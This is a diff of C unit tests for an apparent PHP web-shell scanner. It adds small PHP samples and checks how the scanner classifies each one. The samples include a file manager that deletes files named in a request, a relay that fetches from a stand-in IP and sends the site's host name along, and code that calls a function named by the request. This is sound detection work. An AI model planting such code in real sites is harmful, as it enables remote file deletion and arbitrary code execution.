@@ -596,6 +596,23 @@ test_yara_and_verdict(void)
 		for (i = 0; i < r.n && strcmp(r.f[i].cls, "tiny-uploader") != 0; i++)
 			;
 		T_CHECK(i < r.n, "up.php: no tiny-uploader finding");
+		/* a file manager driven by links; a page relaying a bare IP address's content */
+		{
+			static const char lfm[] = "<?php\nforeach (scandir($_GET['d']) as $f) echo \"<a href='?rm=$f'>$f</a>\";\n"
+						  "if (isset($_GET['rm'])) unlink($_GET['rm']);\n";
+			static const char relay[] = "<?php\n$s = 'http://203.0.113.9/d/';\n"
+						    "echo file_get_contents($s . '?h=' . $_SERVER['HTTP_HOST']);\n";
+			static const char local[] = "<?php\n$s = 'http://127.0.0.1:8080/';\necho file_get_contents($s);\n";
+
+			T_OK(analyse_buf(a, (const uint8_t *)lfm, sizeof(lfm) - 1, "l.php", &r) == 0);
+			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && strcmp(r.f[0].cls, "file-manager") == 0, "l.php: %d %s",
+				r.verdict, r.n ? r.f[0].cls : "-");
+			T_OK(analyse_buf(a, (const uint8_t *)relay, sizeof(relay) - 1, "r.php", &r) == 0);
+			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && strcmp(r.f[0].cls, "remote-relay") == 0, "r.php: %d %s",
+				r.verdict, r.n ? r.f[0].cls : "-");
+			T_OK(analyse_buf(a, (const uint8_t *)local, sizeof(local) - 1, "t.php", &r) == 0);
+			T_EQ_INT(r.verdict, ANALYSE_CLEAN);
+		}
 		/* a dropper fetching through a helper of its own */
 		{
 			static const char dr[] =
@@ -907,6 +924,10 @@ test_callbacks_more(void)
 	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
 	/* extract() of the request, then a variable function: the request names it */
 	T_HAS("x.php", "<?php\nextract($_REQUEST);\n$a($b);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_WEAK, 3);
+	/* an element the request set, called */
+	T_HAS("x.php", "<?php\n$h['f'] = $_POST['f'];\n$h['f']($_POST['a']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php\n$h = array();\n$h['f'] = $_POST['f'];\n$h['f']('x');\n", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_WEAK, 4);
 	/* callbacks of the file's own */
 	T_CLEAN("x.php", "<?php preg_replace_callback('/x/', function ($m) { return $m[0]; }, $_GET['s']);"
 			 " set_error_handler('my_handler'); spl_autoload_register(array($this, 'load'));");
